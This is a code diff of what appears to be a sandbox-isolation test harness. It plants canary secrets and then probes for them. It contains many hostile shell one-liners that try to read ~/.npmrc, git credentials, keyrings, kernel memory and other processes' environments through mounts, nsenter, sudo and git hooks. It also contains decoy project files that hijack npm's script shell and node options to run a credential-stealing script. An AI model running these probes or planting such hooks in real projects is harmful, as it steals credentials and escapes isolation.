@@ -21,6 +21,15 @@ export interface WayOut {
 /** What a canary looks like; each is one of these, with chance at its end. */
 const CANARY_PATTERN = 'cnry-[a-z]+-[0-9a-f]{16}';
 
+/** Of the key in the worker's keyring. */
+const KEY_NAME = 'crew-canary';
+
+/** In front of a command: it has a session keyring, with `secret` in it. */
+export function withKeyring(secret: string): readonly string[] {
+  const script = `($add, $ctl) = (\`uname -m\` =~ /aarch64/) ? (217, 219) : (248, 250); ($s, $t, $d) = (shift, "user", "${KEY_NAME}"); syscall($ctl, 1, 0); syscall($add, $t, $d, $s, length $s, -3); exec @ARGV`;
+  return ['perl', '-e', script, secret];
+}
+
 /** `look` prints canaries of what it reads; `reach` says so when what it runs succeeds. */
 export const PRELUDE = `look() { head -c 3000000 | grep -aoE '${CANARY_PATTERN}' | sort -u | head -20; }
 reach() { timeout 3 "$@" >/dev/null 2>&1 </dev/null && printf 'REA%s\\n' "CHED $way"; }
@@ -60,7 +69,7 @@ export function waysOut(around: Surroundings): readonly WayOut[] {
     'logs and mail': 'cat /var/log/* /var/mail/* /var/spool/cron/* /var/spool/cron/crontabs/* | look',
     'temporary files of others': 'cat /tmp/* /tmp/*/* /var/tmp/* /dev/shm/* | look',
     'shared memory': `perl -e 'for $id (${sharedMemory}, 0..40) { print $b if shmread($id, $b, 0, 100) }' | look; tail -qn +2 /proc/sysvipc/shm /proc/sysvipc/msg | grep -q . && printf 'REA%s\\n' 'CHED shm'`,
-    keyrings: `perl -e '$n = (\`uname -m\` =~ /aarch64/) ? 219 : 250; for $k (-5, -4, -3, -2, -1) { $id = syscall($n, 10, $k, "user", "crew-canary", 0); $b = "\\0" x 200; print $b if $id > 0 && syscall($n, 11, $id, $b, 200) > 0 }' | look; cat /proc/keys | look`,
+    keyrings: `perl -e '$n = (\`uname -m\` =~ /aarch64/) ? 219 : 250; ($t, $d) = ("user", "${KEY_NAME}"); for $k (-5, -4, -3, -2, -1) { $id = syscall($n, 10, $k, $t, $d, 0); $b = "\\0" x 200; print $b if $id > 0 && syscall($n, 11, $id, $b, 200) > 0 }' | look; cat /proc/keys | look`,
     'a link to the home': `ln -s ${home}/.npmrc stolen-1; cat stolen-1 | look; ln ${home}/.npmrc stolen-2; cat stolen-2 | look`,
     'a mount': `mkdir -p m; mount --bind ${home} m; cat m/.npmrc | look; mount -t proc proc m; cat m/*/environ | look`,
     'namespaces of others': `for p in ${every(pids)} 1; do nsenter -t $p -a cat ${home}/.npmrc; done | look`,
@@ -70,7 +79,7 @@ export function waysOut(around: Surroundings): readonly WayOut[] {
     'more rights': `sudo -n cat ${home}/.npmrc | look; su -c "cat ${home}/.npmrc" | look; chmod 4755 .evil.sh; perl -e '$< = 0; $> = 0; exec "cat", "${home}/.npmrc"' | look`,
     'kernel files': `cat /proc/kcore /proc/kmsg /dev/mem /dev/kmsg /dev/vda /dev/sda | head -c 2000000 | look; dmesg | look; cat /sys/kernel/debug/* | look`,
     'programs of git': `git init -q g; cd g; git config core.fsmonitor "cat ${home}/.npmrc >&2; false"; git config credential.helper "!cat ${home}/.git-credentials"; git status 2>&1 | look; echo host=x | git credential fill 2>&1 | look; git config --global -l | look`,
-    'filters of git': `cd g; printf '* filter=e' > .gitattributes; git config filter.e.clean 'cat ${home}/.npmrc'; echo x > x; git add x; git show :x | look; git -c alias.e='!cat ${home}/.npmrc' e | look`,
+    'filters of git': `git init -q f; cd f; printf '* filter=e' > .gitattributes; git config filter.e.clean 'cat ${home}/.npmrc'; echo x > x; git add x; git show :x | look; git -c alias.e='!cat ${home}/.npmrc' e | look`,
   };
   const local = Object.entries(ports).map(([what, port]) => [
     `the port of ${what}`,
@@ -105,8 +114,8 @@ export function trapsForChecks(home: string, trap: number): Readonly<Record<stri
   return {
     'package.json': `${JSON.stringify({ name: 'shop', type: 'module', private: true, scripts }, null, 2)}\n`,
     'steal.sh': `${steal}\n`,
-    '.npmrc': 'script-shell=./node_modules/.bin/sh\nnode-options=--require ./steal.cjs\n',
-    'node_modules/.bin/sh': `#!/bin/sh\n${steal}\nexec /bin/sh "$@"\n`,
+    '.npmrc': 'script-shell=./tools/sh\nnode-options=--require ./steal.cjs\n',
+    'tools/sh': `#!/bin/sh\n${steal}\nexec /bin/sh "$@"\n`,
     'node_modules/.bin/node': `#!/bin/sh\n${steal}\n`,
     'steal.cjs': `try { console.log(require('fs').readFileSync('${home}/.npmrc', 'utf8')) } catch {}\n`,
     Makefile: `test:\n\tsh steal.sh\n`,
